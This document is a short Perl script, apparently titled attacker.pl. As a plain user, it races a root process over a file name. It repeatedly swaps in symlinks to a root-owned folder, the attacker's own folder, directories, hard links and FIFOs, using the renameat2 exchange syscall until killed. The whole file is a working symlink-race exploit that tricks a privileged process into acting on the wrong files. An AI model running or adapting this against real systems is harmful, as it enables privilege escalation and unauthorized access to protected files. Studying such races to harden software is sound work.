# Exchanges names under the hands of a root process, as fast as it can, until it is killed. Started as a plain user:
# attacker.pl NAME SECRET OWN keep|make: NAME is the raced name, SECRET a folder of root's, OWN a folder of the attacker's.
# `keep`: NAME is a folder of the attacker's, with which links take turns. `make`: it is nothing most of the time.
use strict;
use Fcntl;
my ($name, $secret, $own, $mode) = @ARGV;
my ($number) = `uname -m` =~ /aarch64/ ? 276 : 316;    # renameat2(2)
my $spare = "$name.spare";
sub exchange { syscall($number, -100, $_[0], -100, $_[1], 2) }
sub clear { unlink $name; rename $name, "$own/" . time . rand; }
sub folder { mkdir $_[0], 0777; chmod 0777, $_[0]; }
sub pause { select undef, undef, undef, rand($_[0] // 0.004) }
while ($mode eq 'keep') {
  symlink $secret, $spare;
  exchange($name, $spare); pause(); exchange($name, $spare); pause(0.03);
  rename $name, "$name.moved"; symlink $secret, $name; pause();
  unlink $name; rename "$name.moved", $name; pause(0.03);
}
for (;;) {
  symlink $secret, $name; pause(); clear(); pause(0.03);
  symlink $own, $name; pause(); clear(); pause(0.03);
  folder($name); pause(); clear(); pause(0.03);
  symlink "$secret/new", $name; pause(); clear(); pause(0.03);
  link "$own/file", $name; pause(); clear(); pause(0.03);
  syscall(133, $name, 010666, 0) if $number == 316; pause(); clear(); pause(0.03);    # mknod(2): a FIFO
  folder($name); symlink $secret, $spare; exchange($name, $spare); pause(); exchange($name, $spare);
  unlink $spare; rmdir $spare; clear(); pause(0.03);
}
